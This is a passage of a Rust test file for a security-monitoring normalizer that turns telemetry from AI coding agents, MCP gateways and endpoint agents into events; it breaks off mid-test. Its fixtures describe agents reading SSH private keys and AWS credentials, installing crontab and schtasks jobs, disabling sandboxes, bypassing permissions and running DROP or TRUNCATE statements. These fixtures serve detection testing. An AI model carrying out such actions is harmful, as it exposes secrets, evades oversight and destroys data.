//! The default mapping pack on realistic records of every source family, with
//! the type quirks real exporters have (booleans and numbers as strings, JSON
//! in string attributes, identity in resource attributes).

use std::sync::Arc;

use event::{Event, EventKind, Outcome, Source};
use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
use opentelemetry_proto::tonic::collector::metrics::v1::ExportMetricsServiceRequest;
use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
use opentelemetry_proto::tonic::common::v1::{
    any_value, AnyValue, ArrayValue, KeyValue, KeyValueList,
};
use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
use opentelemetry_proto::tonic::metrics::v1::{
    metric, number_data_point, Metric, NumberDataPoint, ResourceMetrics, ScopeMetrics, Sum,
};
use opentelemetry_proto::tonic::resource::v1::Resource;
use opentelemetry_proto::tonic::trace::v1::{status, ResourceSpans, ScopeSpans, Span, Status};
use serde_json::{json, Value};
use vigil_ingest::normalize::LIVE_FOR;
use vigil_ingest::{MappingSet, Normalizer};

const T0: u64 = 1_773_154_800_000_000_000; // 2026-03-10T15:00:00Z

fn any(v: &Value) -> AnyValue {
    let value = match v {
        Value::String(s) => any_value::Value::StringValue(s.clone()),
        Value::Bool(b) => any_value::Value::BoolValue(*b),
        Value::Number(n) if n.is_i64() => any_value::Value::IntValue(n.as_i64().unwrap()),
        Value::Number(n) => any_value::Value::DoubleValue(n.as_f64().unwrap()),
        Value::Array(a) => any_value::Value::ArrayValue(ArrayValue {
            values: a.iter().map(any).collect(),
        }),
        Value::Object(m) => any_value::Value::KvlistValue(KeyValueList {
            values: kvs(&Value::Object(m.clone())),
        }),
        Value::Null => return AnyValue { value: None },
    };
    AnyValue { value: Some(value) }
}

fn kvs(v: &Value) -> Vec<KeyValue> {
    v.as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| KeyValue {
            key: k.clone(),
            value: Some(any(v)),
            ..Default::default()
        })
        .collect()
}

fn normalizer() -> Normalizer {
    Normalizer::new(Arc::new(MappingSet::load(&[]).expect("default pack")))
}

fn log(resource: Value, body: Value, attrs: Value) -> Event {
    let req = ExportLogsServiceRequest {
        resource_logs: vec![ResourceLogs {
            resource: Some(Resource {
                attributes: kvs(&resource),
                ..Default::default()
            }),
            scope_logs: vec![ScopeLogs {
                log_records: vec![LogRecord {
                    time_unix_nano: T0,
                    body: Some(any(&body)),
                    attributes: kvs(&attrs),
                    ..Default::default()
                }],
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let mut out = normalizer().logs(&req, "default", T0 as i64);
    assert_eq!(out.rejected, 0);
    assert_eq!(out.events.len(), 1);
    out.events.pop().unwrap()
}

fn span(resource: Value, name: &str, attrs: Value, error: bool) -> Event {
    let req = ExportTraceServiceRequest {
        resource_spans: vec![ResourceSpans {
            resource: Some(Resource {
                attributes: kvs(&resource),
                ..Default::default()
            }),
            scope_spans: vec![ScopeSpans {
                spans: vec![Span {
                    name: name.into(),
                    start_time_unix_nano: T0,
                    end_time_unix_nano: T0 + 180_000_000,
                    trace_id: vec![7; 16],
                    span_id: vec![9; 8],
                    attributes: kvs(&attrs),
                    status: Some(Status {
                        code: if error {
                            status::StatusCode::Error as i32
                        } else {
                            0
                        },
                        message: String::new(),
                    }),
                    ..Default::default()
                }],
                ..Default::default()
            }],
            ..Default::default()
        }],
    };
    let mut out = normalizer().traces(&req, "default", T0 as i64);
    assert_eq!(out.events.len(), 1);
    out.events.pop().unwrap()
}

fn claude(attrs: Value) -> Event {
    let mut base = json!({
        "session.id": "sess-1", "user.email": "gina@example.com", "organization.id": "org-1",
        "user.account_uuid": "acc-1", "terminal.type": "iTerm.app", "event.sequence": 3
    });
    base.as_object_mut()
        .unwrap()
        .extend(attrs.as_object().unwrap().clone());
    let name = format!("claude_code.{}", base["event.name"].as_str().unwrap());
    log(
        json!({"service.name": "claude-code", "service.version": "2.1.230", "os.type": "darwin"}),
        json!(name),
        base,
    )
}

#[test]
fn claude_code_read_tool_becomes_a_file_read_with_path_user_and_session() {
    let e = claude(json!({
        "event.name": "tool_result", "tool_name": "Read", "success": "true", "decision_type": "accept",
        "decision_source": "config", "duration_ms": "35",
        "tool_parameters": "{\"file_path\": \"/Users/gina/.ssh/id_ed25519\"}"
    }));
    assert_eq!(e.source, Source::Agent);
    assert_eq!(e.kind, EventKind::FileRead);
    assert_eq!(e.action.as_deref(), Some("read"));
    assert_eq!(e.outcome, Outcome::Success);
    assert_eq!(e.user.as_deref(), Some("gina@example.com"));
    assert_eq!(e.session.as_deref(), Some("sess-1"));
    assert_eq!(e.tool.as_deref(), Some("Read"));
    assert_eq!(e.path.as_deref(), Some("/Users/gina/.ssh/id_ed25519"));
    assert_eq!(e.product.as_deref(), Some("claude-code"));
    assert!(!e.interactive, "a config decision is not a person acting");
    assert_eq!(e.time, T0 as i64);
    // Nothing dropped: untaken attributes and resource attributes stay.
    assert_eq!(e.attrs.get("terminal.type"), Some("iTerm.app"));
    assert_eq!(e.attrs.get("resource.os.type"), Some("darwin"));
    assert_eq!(e.attrs.get("duration_ms"), Some("35"));
    assert_eq!(e.attrs.get("event.name"), Some("tool_result"));
    assert!(
        !e.attrs.contains_key("user.email"),
        "taken by the user column"
    );
    assert_eq!(e.event_id.len(), 32);
}

#[test]
fn file_servers_read_files_as_read_does() {
    let agent = claude(json!({
        "event.name": "tool_result", "tool_name": "mcp__filesystem__read_text_file", "success": "true",
        "tool_input": "{\"path\": \"/home/lena/.ssh/id_ed25519\"}"
    }));
    assert_eq!(
        (agent.kind, agent.path.as_deref()),
        (EventKind::FileRead, Some("/home/lena/.ssh/id_ed25519"))
    );
    let gateway = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call read_text_file",
        json!({"mcp.method.name": "tools/call", "server.address": "files.corp.example", "user.email": "gus@example.com",
               "gen_ai.tool.call.arguments": "{\"path\": \"/home/gus/.aws/credentials\"}"}),
        false,
    );
    assert_eq!(
        (gateway.kind, gateway.path.as_deref()),
        (EventKind::FileRead, Some("/home/gus/.aws/credentials"))
    );
}

#[test]
fn claude_code_local_mcp_servers_write_through_no_connector() {
    let local = claude(json!({
        "event.name": "tool_result", "tool_name": "mcp__memory__create_entities", "success": "true"
    }));
    assert_eq!(
        (
            local.kind,
            local.tool.as_deref(),
            local.mcp_server.as_deref()
        ),
        (EventKind::ToolCall, Some("create_entities"), Some("memory"))
    );
    let write = claude(json!({
        "event.name": "tool_result", "tool_name": "mcp__filesystem__write_file", "success": "true"
    }));
    assert_eq!(write.kind, EventKind::FileWrite);
    let saas = claude(json!({
        "event.name": "tool_result", "tool_name": "mcp__slack__slack_post_message", "success": "true"
    }));
    assert_eq!(saas.kind, EventKind::ConnectorAction);
}

#[test]
fn claude_code_tool_input_gives_path_and_command_when_tool_parameters_do_not() {
    let read = claude(json!({
        "event.name": "tool_result", "tool_name": "Read", "success": "true",
        "tool_input": "{\"file_path\": \"/Users/gina/.aws/credentials\", \"limit\": 20}"
    }));
    assert_eq!(read.kind, EventKind::FileRead);
    assert_eq!(read.path.as_deref(), Some("/Users/gina/.aws/credentials"));
    let bash = claude(json!({
        "event.name": "tool_result", "tool_name": "Bash", "success": "true",
        "tool_parameters": "{\"bash_command\": \"crontab\"}",
        "tool_input": "{\"command\": \"crontab /tmp/jobs\", \"description\": \"install\"}"
    }));
    assert_eq!(bash.command.as_deref(), Some("crontab /tmp/jobs"));
    // tool_parameters win when both name the command.
    let both = claude(json!({
        "event.name": "tool_result", "tool_name": "Bash", "success": "true",
        "tool_parameters": "{\"full_command\": \"ls -la\"}",
        "tool_input": "{\"command\": \"ls -la /tmp\"}"
    }));
    assert_eq!(both.command.as_deref(), Some("ls -la"));
    // A truncated tool_input is kept as text.
    let cut = claude(json!({
        "event.name": "tool_result", "tool_name": "Bash", "success": "true",
        "tool_input": "{\"command\": \"cat ~/.ssh/id_"
    }));
    assert_eq!(cut.command, None);
    assert_eq!(
        cut.attrs.get("tool_input"),
        Some("{\"command\": \"cat ~/.ssh/id_")
    );
}

#[test]
fn claude_code_bash_carries_the_full_command_and_failure_outcome() {
    let e = claude(json!({
        "event.name": "tool_result", "tool_name": "Bash", "success": "false", "decision_source": "user_temporary",
        "tool_parameters": "{\"bash_command\": \"crontab\", \"full_command\": \"(crontab -l; echo x) | crontab -\", \"dangerouslyDisableSandbox\": true}"
    }));
    assert_eq!(e.kind, EventKind::ToolCall);
    assert_eq!(
        e.command.as_deref(),
        Some("(crontab -l; echo x) | crontab -")
    );
    assert_eq!(e.outcome, Outcome::Failure);
    assert!(
        e.interactive,
        "a user_temporary decision is a person acting"
    );
    assert_eq!(
        e.attrs.get("tool_parameters.dangerouslyDisableSandbox"),
        Some("true")
    );
    assert_eq!(e.attrs.get("tool_parameters.bash_command"), Some("crontab"));
}

#[test]
fn claude_code_prompts_schedules_modes_and_mcp_tools() {
    let p =
        claude(json!({"event.name": "user_prompt", "prompt_length": 42, "prompt": "<REDACTED>"}));
    assert_eq!(p.kind, EventKind::UserPrompt);
    assert!(p.interactive);
    let s = claude(
        json!({"event.name": "user_prompt", "command_name": "schedule", "command_source": "builtin"}),
    );
    assert_eq!(s.kind, EventKind::ScheduledTaskCreate);
    let m = claude(
        json!({"event.name": "permission_mode_changed", "from_mode": "default", "to_mode": "bypassPermissions", "trigger": "shift_tab"}),
    );
    assert_eq!(m.kind, EventKind::PermissionModeChange);
    assert_eq!(m.attrs.get("to_mode"), Some("bypassPermissions"));
    let t = claude(
        json!({"event.name": "tool_result", "tool_name": "mcp__slack__slack_post_message", "success": "true"}),
    );
    assert_eq!(t.kind, EventKind::ConnectorAction);
    assert_eq!(t.mcp_server.as_deref(), Some("slack"));
    assert_eq!(t.tool.as_deref(), Some("slack_post_message"));
    assert_eq!(t.action.as_deref(), Some("post"));
    assert_eq!(t.connector.as_deref(), Some("slack"));
    let w = claude(json!({"event.name": "tool_result", "tool_name": "Write",
        "tool_parameters": "{\"file_path\": \"/Users/a/Documents/Claude/Scheduled/daily.json\"}"}));
    assert_eq!(w.kind, EventKind::ScheduledTaskCreate);
    let f = claude(json!({"event.name": "tool_result", "tool_name": "WebFetch",
        "tool_parameters": "{\"url\": \"https://Files.Anon-Share.net/x\"}"}));
    assert_eq!(f.domain.as_deref(), Some("files.anon-share.net"));
    let d = claude(
        json!({"event.name": "tool_decision", "tool_name": "Bash", "decision": "reject", "source": "user_reject"}),
    );
    assert_eq!(d.kind, EventKind::ToolDecision);
    assert_eq!(d.outcome, Outcome::Denied);
    assert!(d.interactive);
    let a = claude(
        json!({"event.name": "api_request", "model": "claude-sonnet-4-5", "input_tokens": "1200", "output_tokens": 350}),
    );
    assert_eq!(a.kind, EventKind::ModelCall);
    assert_eq!((a.tokens_in, a.tokens_out), (Some(1200), Some(350)));
    let c = claude(
        json!({"event.name": "mcp_server_connection", "status": "failed", "server_name": "evil", "transport_type": "stdio"}),
    );
    assert_eq!(c.kind, EventKind::McpConnect);
    assert_eq!(c.outcome, Outcome::Failure);
    assert_eq!(c.mcp_server.as_deref(), Some("evil"));
}

#[test]
fn api_key_users_come_from_resource_enduser_id() {
    let e = log(
        json!({"service.name": "claude-code", "enduser.id": "jdoe@example.com", "department": "eng"}),
        json!("claude_code.user_prompt"),
        json!({"event.name": "user_prompt", "session.id": "s", "user.id": "anon-install-123"}),
    );
    assert_eq!(e.user.as_deref(), Some("jdoe@example.com"));
    assert_eq!(e.attrs.get("resource.department"), Some("eng"));
}

#[test]
fn e_mail_users_are_lower_cased_whatever_names_them_and_accounts_keep_their_case() {
    let key = log(
        json!({"service.name": "claude-code", "enduser.id": "Raj.Patel@Contoso.IO"}),
        json!("claude_code.user_prompt"),
        json!({"event.name": "user_prompt", "session.id": "s"}),
    );
    assert_eq!(key.user.as_deref(), Some("raj.patel@contoso.io"));
    let gateway = span(
        json!({"service.name": "litellm"}),
        "raw_gen_ai_request",
        json!({"gen_ai.system": "openai", "gen_ai.request.model": "gpt-4o",
               "metadata.user_api_key_user_id": "Ana.Silva@Example.COM"}),
        false,
    );
    assert_eq!(gateway.user.as_deref(), Some("ana.silva@example.com"));
    let account = log(
        json!({"service.name": "endpoint-agent", "host.name": "build-01", "os.type": "linux"}),
        json!(""),
        json!({"event.category": "file", "event.action": "open", "file.path": "/home/Alice/notes.txt",
               "user.name": "Alice"}),
    );
    assert_eq!(account.user.as_deref(), Some("Alice"));
}

#[test]
fn genai_gateway_spans_accept_old_and_new_names_and_ignore_caller_supplied_users() {
    let new = span(
        json!({"service.name": "ai-gateway"}),
        "chat claude-sonnet-4-5",
        json!({"gen_ai.operation.name": "chat", "gen_ai.provider.name": "anthropic", "gen_ai.request.model": "claude-sonnet-4-5",
               "gen_ai.usage.input_tokens": 1200, "gen_ai.usage.output_tokens": 350, "user.email": "oscar@example.com",
               "gen_ai.conversation.id": "sess-oscar-01", "gen_ai.response.finish_reasons": ["stop"]}),
        false,
    );
    assert_eq!(new.source, Source::AiGateway);
    assert_eq!(new.kind, EventKind::ModelCall);
    assert_eq!(new.model.as_deref(), Some("claude-sonnet-4-5"));
    assert_eq!((new.tokens_in, new.tokens_out), (Some(1200), Some(350)));
    assert_eq!(new.session.as_deref(), Some("sess-oscar-01"));
    assert_eq!(new.user.as_deref(), Some("oscar@example.com"));
    assert_eq!(
        new.attrs.get("gen_ai.response.finish_reasons"),
        Some("[\"stop\"]")
    );
    let old = span(
        json!({"service.name": "litellm"}),
        "raw_gen_ai_request",
        json!({"gen_ai.system": "openai", "gen_ai.request.model": "gpt-4o", "gen_ai.usage.prompt_tokens": "10",
               "gen_ai.usage.completion_tokens": "5", "metadata.user_api_key_user_id": "u-77", "gen_ai.user": "forged@evil.com"}),
        true,
    );
    assert_eq!((old.tokens_in, old.tokens_out), (Some(10), Some(5)));
    assert_eq!(old.user.as_deref(), Some("u-77"));
    assert_eq!(old.outcome, Outcome::Failure);
    assert_eq!(old.attrs.get("gen_ai.user"), Some("forged@evil.com"));
}

#[test]
fn gateway_identities_forwarded_requests_and_agents_own_tool_spans() {
    // LiteLLM and TrueFoundry name the user of an MCP call in their own keys.
    let litellm = span(
        json!({"service.name": "litellm"}),
        "tools/call gmail_send_email",
        json!({"mcp.method.name": "tools/call", "server.address": "gmail.mcp.example.net",
               "metadata.user_api_key_user_email": "olga@example.com"}),
        false,
    );
    assert_eq!(litellm.kind, EventKind::ConnectorAction);
    assert_eq!(litellm.user.as_deref(), Some("olga@example.com"));
    let tfy = span(
        json!({"service.name": "tfy-mcp-gateway"}),
        "MCP",
        json!({"tfy.span_type": "MCP", "gen_ai.tool.name": "delete_file", "tfy.request.created_by_subject": "user:pat@example.com"}),
        false,
    );
    assert_eq!(tfy.user.as_deref(), Some("user:pat@example.com"));
    // ContextForge forwarding to a federated gateway: a tool call with the peer's domain.
    let fwd = span(
        json!({"service.name": "mcp-gateway"}),
        "gateway.forward_request",
        json!({"gateway.name": "partner", "gateway.url": "https://tools.quickmcp-hub.io/mcp", "user.email": "carol@example.com"}),
        false,
    );
    assert_eq!(fwd.kind, EventKind::ToolCall);
    assert_eq!(fwd.domain.as_deref(), Some("tools.quickmcp-hub.io"));
    // An agent's own GenAI tool span to an external API: a writing verb makes a connector action.
    let own = span(
        json!({"service.name": "support-agent"}),
        "execute_tool send_email",
        json!({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.type": "extension", "gen_ai.provider.name": "anthropic", "user.id": "agent-svc"}),
        false,
    );
    assert_eq!(
        (own.kind, own.tool.as_deref()),
        (EventKind::ConnectorAction, Some("send_email"))
    );
    assert_eq!(own.action.as_deref(), Some("send"));
    let lookup = span(
        json!({"service.name": "support-agent"}),
        "execute_tool lookup_order",
        json!({"gen_ai.operation.name": "execute_tool", "gen_ai.provider.name": "anthropic"}),
        false,
    );
    assert_eq!(lookup.kind, EventKind::ToolCall);
    // A local function writes nothing outside.
    let local = span(
        json!({"service.name": "support-agent"}),
        "execute_tool write_file",
        json!({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.type": "function", "gen_ai.provider.name": "anthropic"}),
        false,
    );
    assert_eq!(
        (local.kind, local.tool.as_deref()),
        (EventKind::ToolCall, Some("write_file"))
    );
}

#[test]
fn agents_own_tool_spans_without_a_model_read_files_and_write_through_named_saas() {
    // The GenAI conventions' execute_tool span names no model or provider.
    let read = span(
        json!({"service.name": "ops-agent"}),
        "execute_tool read_file",
        json!({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "read_file", "gen_ai.tool.type": "function",
               "user.email": "Ops.Lead@Example.com",
               "gen_ai.tool.call.arguments": "{\"path\": \"/home/ops/.aws/credentials\"}"}),
        false,
    );
    assert_eq!(read.kind, EventKind::FileRead);
    assert_eq!(read.path.as_deref(), Some("/home/ops/.aws/credentials"));
    // The agent acting, as an OpenInference agent's tool span is: its sessions are
    // judged as an agent's (unattended-session starts on agent events).
    assert_eq!(read.source, Source::Agent);
    // One person, one key, however the source writes the address.
    assert_eq!(read.user.as_deref(), Some("ops.lead@example.com"));
    let post = span(
        json!({"service.name": "ops-agent"}),
        "execute_tool slack_post_message",
        json!({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "slack_post_message", "gen_ai.tool.type": "function"}),
        false,
    );
    assert_eq!(
        (post.kind, post.action.as_deref()),
        (EventKind::ConnectorAction, Some("post"))
    );
    // A local function, or a SaaS tool that only reads, writes nothing outside.
    for tool in ["write_file", "slack_list_channels"] {
        let e = span(
            json!({"service.name": "ops-agent"}),
            &format!("execute_tool {tool}"),
            json!({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": tool, "gen_ai.tool.type": "function"}),
            false,
        );
        assert_eq!(e.kind, EventKind::ToolCall, "{tool}");
    }
}

#[test]
fn sql_tools_write_when_their_statement_does() {
    let sql = |name: &str, query: &str| {
        span(
            json!({"service.name": "mcp-gateway"}),
            &format!("tools/call {name}"),
            json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": name, "server.address": "mcp.supabase.com",
                   "user.email": "kim@example.com",
                   "gen_ai.tool.call.arguments": json!({"query": query}).to_string()}),
            false,
        )
    };
    let delete = sql("execute_sql", "  DELETE FROM invoices WHERE paid");
    assert_eq!(
        (delete.kind, delete.action.as_deref()),
        (EventKind::ConnectorAction, Some("delete"))
    );
    let drop = sql("apply_migration", "drop table audit_log");
    assert_eq!(
        (drop.kind, drop.action.as_deref()),
        (EventKind::ConnectorAction, Some("drop"))
    );
    assert_eq!(
        sql("execute_sql", "select * from invoices").kind,
        EventKind::ToolCall
    );
    // The agent calling the same tool itself.
    let agent = claude(
        json!({"event.name": "tool_result", "tool_name": "mcp__supabase__execute_sql", "success": "true",
               "tool_input": "{\"query\": \"truncate sessions\"}"}),
    );
    assert_eq!(
        (agent.kind, agent.action.as_deref()),
        (EventKind::ConnectorAction, Some("truncate"))
    );
}

#[test]
fn verbs_are_found_through_their_third_person() {
    let set = MappingSet::load(&[]).expect("default pack");
    assert_eq!(
        set.verb_of("SLACK_SENDS_A_MESSAGE_TO_A_SLACK_CHANNEL"),
        Some(("send", true))
    );
    assert_eq!(set.verb_of("GMAIL_DELETES_DRAFT"), Some(("delete", true)));
    assert_eq!(set.verb_of("sendmail"), Some(("send", true)));
    assert_eq!(set.verb_of("crm_upsert_contact"), Some(("update", true)));
    assert_eq!(set.verb_of("get_news"), Some(("read", false)));
    // HTTP-method tool names: the method is not the verb when a reading one follows.
    assert_eq!(set.verb_of("API-post-search"), Some(("read", false)));
    assert_eq!(
        set.verb_of("API-post-database-query"),
        Some(("read", false))
    );
    assert_eq!(set.verb_of("API-post-page"), Some(("post", true)));
    assert_eq!(set.verb_of("API-delete-a-block"), Some(("delete", true)));
    assert_eq!(set.verb_of("fork_repository"), Some(("create", true)));
    assert_eq!(set.verb_of("notion-duplicate-page"), Some(("create", true)));
    // Short words are not stemmed: `news` is not `new`.
    assert_eq!(set.verb_of("news_feed"), None);
    // Plurals at the end and participles are not verbs.
    for noun in [
        "list_posts",
        "user_tweets",
        "updates",
        "shared_with_me",
        "trashed_files",
        "saved_searches",
    ] {
        assert!(
            set.verb_of(noun).is_none_or(|(_, writes)| !writes),
            "{noun} is not a write"
        );
    }
}

#[test]
fn calls_acting_on_lists_of_objects_say_how_many() {
    let ids: Vec<String> = (0..400).map(|i| format!("18f{i:05x}a")).collect();
    let batch = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call batch_delete_emails",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "batch_delete_emails",
               "server.address": "gmail-mcp.example.com", "user.email": "pia@example.com",
               "gen_ai.tool.call.arguments": json!({"messageIds": ids, "batchSize": 50}).to_string()}),
        false,
    );
    assert_eq!(batch.kind, EventKind::ConnectorAction);
    assert_eq!(batch.action.as_deref(), Some("delete"));
    assert_eq!(batch.attrs.get("vigil.items"), Some("400"));
    // Claude Code's MCP tool input: the longest list named as objects acted on.
    let files = claude(
        json!({"event.name": "tool_result", "tool_name": "mcp__drive__delete_files",
        "session.id": "s-1", "user.email": "a@example.com",
        "tool_input": json!({"file_ids": ["a", "b", "c"], "paths": ["x"]}).to_string()}),
    );
    assert_eq!(files.attrs.get("vigil.items"), Some("3"));
    // Labels added, attachments and recipients qualify one call: no count.
    let send = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call send_email",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "send_email",
               "server.address": "gmail-mcp.example.com", "user.email": "pia@example.com",
               "gen_ai.tool.call.arguments": json!({"to": ["a@x.com", "b@x.com"], "attachment_ids": ["1", "2", "3"], "addLabelIds": ["L1", "L2"]}).to_string()}),
        false,
    );
    assert_eq!(send.kind, EventKind::ConnectorAction);
    assert_eq!(send.attrs.get("vigil.items"), None);
    // Lists of objects count under the names that say so (Dropbox's batch
    // `entries`); people invited to one channel are one invitation.
    let dropbox = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call delete_batch",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "delete_batch",
               "server.address": "dropbox-mcp.example.com", "user.email": "pia@example.com",
               "gen_ai.tool.call.arguments": json!({"entries": [{"path": "/a"}, {"path": "/b"}]}).to_string()}),
        false,
    );
    assert_eq!(dropbox.attrs.get("vigil.items"), Some("2"));
    let invite = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call slack_invite_users_to_channel",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "slack_invite_users_to_channel",
               "server.address": "mcp.slack.com", "user.email": "pia@example.com",
               "gen_ai.tool.call.arguments": json!({"channel_id": "C1", "user_ids": ["U1", "U2", "U3"]}).to_string()}),
        false,
    );
    assert_eq!(invite.attrs.get("vigil.items"), None);
}

#[test]
fn every_products_tool_arguments_read_as_args() {
    // Each product's arguments become `args.*`, and `vigil.args` says whose
    // they were. Claude Code's MCP tool: tool_input, not tool_parameters (the
    // tool's metadata, kept under its own name).
    let claude_share = claude(
        json!({"event.name": "tool_result", "tool_name": "mcp__drive__share_file",
        "session.id": "s-1", "user.email": "a@example.com",
        "tool_parameters": json!({"mcp_server_name": "drive", "mcp_tool_name": "share_file"}).to_string(),
        "tool_input": json!({"file_id": "f1", "emails": ["b@example.com"]}).to_string()}),
    );
    assert_eq!(claude_share.attrs.get("vigil.args"), Some("tool_input"));
    assert_eq!(
        claude_share.attrs.get("tool_input.emails"),
        None,
        "one copy"
    );
    assert_eq!(
        claude_share.attrs.get("args.emails"),
        Some(r#"["b@example.com"]"#)
    );
    assert_eq!(claude_share.attrs.get("args.mcp_server_name"), None);
    // Codex names them `arguments`; a gateway `gen_ai.tool.call.arguments`.
    let codex = log(
        json!({"service.name": "codex_cli_rs"}),
        json!(""),
        json!({"event.name": "codex.tool_result", "conversation.id": "cx-1", "user.email": "a@example.com",
               "tool_name": "gdrive__share_file", "mcp_server": "gdrive",
               "arguments": json!({"file_id": "f1", "emails": ["b@example.com"]}).to_string()}),
    );
    assert_eq!(codex.attrs.get("vigil.args"), Some("arguments"));
    assert_eq!(codex.attrs.get("args.emails"), Some(r#"["b@example.com"]"#));
    let gateway = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call send_email",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "send_email",
               "server.address": "gmail-mcp.example.com", "user.email": "pia@example.com",
               "gen_ai.tool.call.arguments": json!({"to": ["x@elsewhere.example"], "subject": "hi"}).to_string()}),
        false,
    );
    assert_eq!(
        gateway.attrs.get("args.to"),
        Some(r#"["x@elsewhere.example"]"#)
    );
    assert_eq!(gateway.attrs.get("args.subject"), Some("hi"));
    // No arguments, or arguments that are no JSON object (a cut-off tool_input): no args.
    let bare = claude(
        json!({"event.name": "tool_result", "tool_name": "Bash", "session.id": "s-1",
                             "tool_input": "{\"command\": \"ls -la /very/long/pa"}),
    );
    assert_eq!(bare.attrs.get("vigil.args"), None);
    assert_eq!(bare.attrs.get("args.command"), None);
}

#[test]
fn mcp_gateway_tool_calls_split_into_connector_writes_and_reads() {
    let post = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call slack_post_message",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "slack_post_message", "gen_ai.operation.name": "execute_tool",
               "mcp.session.id": "mcp-dana-1", "server.address": "mcp.slack.com", "server.port": 443, "user.email": "dana@example.com",
               "gen_ai.tool.call.arguments": "{\"channel_id\": \"C024BE91L\", \"text\": \"quarterly numbers\"}"}),
        false,
    );
    assert_eq!(post.source, Source::McpGateway);
    assert_eq!(post.kind, EventKind::ConnectorAction);
    assert_eq!(post.action.as_deref(), Some("post"));
    assert_eq!(post.connector.as_deref(), Some("slack"));
    assert_eq!(post.domain.as_deref(), Some("mcp.slack.com"));
    assert_eq!(post.mcp_server.as_deref(), Some("mcp.slack.com"));
    assert_eq!(post.session.as_deref(), Some("mcp-dana-1"));
    assert_eq!(post.user.as_deref(), Some("dana@example.com"));
    assert_eq!(post.attrs.get("args.channel_id"), Some("C024BE91L"));
    let read = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call fetch_page",
        json!({"mcp.method.name": "tools/call", "server.address": "tools.quickmcp-hub.io", "user.email": "carol@example.com",
               "gen_ai.tool.call.arguments": "{\"url\": \"https://intranet.example.com/wiki\"}"}),
        false,
    );
    assert_eq!(read.kind, EventKind::ToolCall);
    assert_eq!(
        read.tool.as_deref(),
        Some("fetch_page"),
        "tool name from the span name"
    );
    assert_eq!(
        read.domain.as_deref(),
        Some("tools.quickmcp-hub.io"),
        "the server reached, not the argument's host"
    );
    assert_eq!(
        read.target.as_deref(),
        Some("https://intranet.example.com/wiki")
    );
    let delete = span(
        json!({"service.name": "mcp-gateway"}),
        "tools/call delete_email",
        json!({"mcp.method.name": "tools/call", "gen_ai.tool.name": "delete_email", "server.address": "gmail.mcp.example-connectors.com",
               "user.email": "erin@example.com", "error.type": "tool_error"}),
        false,
    );
    assert_eq!(
        (
            delete.kind,
            delete.action.as_deref(),
            delete.connector.as_deref()
        ),
        (EventKind::ConnectorAction, Some("delete"), Some("gmail"))
    );
    assert_eq!(delete.outcome, Outcome::Failure);
    let docker = span(
        json!({"service.name": "docker-mcp-gateway"}),
        "mcp.tool.call",
        json!({"mcp.server.name": "github", "mcp.tool.name": "create_issue", "mcp.client.name": "claude"}),
        false,
    );
    assert_eq!(
        (
            docker.kind,
            docker.tool.as_deref(),
            docker.connector.as_deref()
        ),
        (
            EventKind::ConnectorAction,
            Some("create_issue"),
            Some("github")
        )
    );
    let init = span(
        json!({"service.name": "mcp-gateway"}),
        "initialize",
        json!({"mcp.method.name": "initialize", "server.address": "mcp.Atlassian.com"}),
        false,
    );
    assert_eq!(init.kind, EventKind::McpConnect);
    assert_eq!(init.domain.as_deref(), Some("mcp.atlassian.com"));
}

#[test]
fn endpoint_ecs_scheduled_tasks_file_reads_and_process_starts() {
    let task = log(
        json!({"service.name": "endpoint-agent"}),
        json!("scheduled-task-created"),
        json!({"host.name": "WS-0042", "user.name": "bob", "host.os.type": "windows", "event.category": "configuration",
               "event.action": "scheduled-task-created", "event.code": "4698", "winlog.channel": "Security",
               "winlog.event_data.TaskName": "\\Microsoft\\Windows\\UpdateOrchestrator\\SyncAgent", "winlog.event_data.SubjectUserName": "bob"}),
    );
    assert_eq!(task.source, Source::Endpoint);
    assert_eq!(task.kind, EventKind::ScheduledTaskCreate);
    assert_eq!(task.user.as_deref(), Some("bob"));
    assert_eq!(task.host.as_deref(), Some("WS-0042"));
    let only_code = log(
        json!({}),
        json!("x"),
        json!({"event.code": 4698, "winlog.channel": "Security", "user.name": "eve"}),
    );
    assert_eq!(
        only_code.kind,
        EventKind::ScheduledTaskCreate,
        "4698 sent as a number"
    );
    let open = log(
        json!({"service.name": "endpoint-agent"}),
        json!("open"),
        json!({"host.name": "dev-hank-01", "user.name": "hank", "event.category": "file", "event.action": "open",
               "file.path": "/home/hank/.aws/credentials", "process.executable": "/usr/bin/python3", "process.pid": 48211}),
    );
    assert_eq!(
        (open.kind, open.path.as_deref()),
        (EventKind::FileRead, Some("/home/hank/.aws/credentials"))
    );
    let exec = log(
        json!({"service.name": "edot"}),
        json!(""),
        json!({"event.category": "process", "event.action": "exec", "process.command_line": "schtasks /create /tn x /tr y",
               "process.executable.path": "C:\\Windows\\System32\\schtasks.exe", "process.owner": "CORP\\bob"}),
    );
    assert_eq!(exec.kind, EventKind::ProcessStart);
    assert_eq!(
        exec.command.as_deref(),
        Some("schtasks /create /tn x /tr y")
    );
    assert_eq!(
        exec.user.as_deref(),
        Some("bob"),
        "the account name without its domain"
    );
    assert_eq!(exec.attrs.get("process.owner"), Some("CORP\\bob"));
}

#[test]
fn endpoint_ecs_documents_carried_as_the_body() {
    // A filelog receiver parsing NDJSON into the body, or a forwarder.
    let read = log(
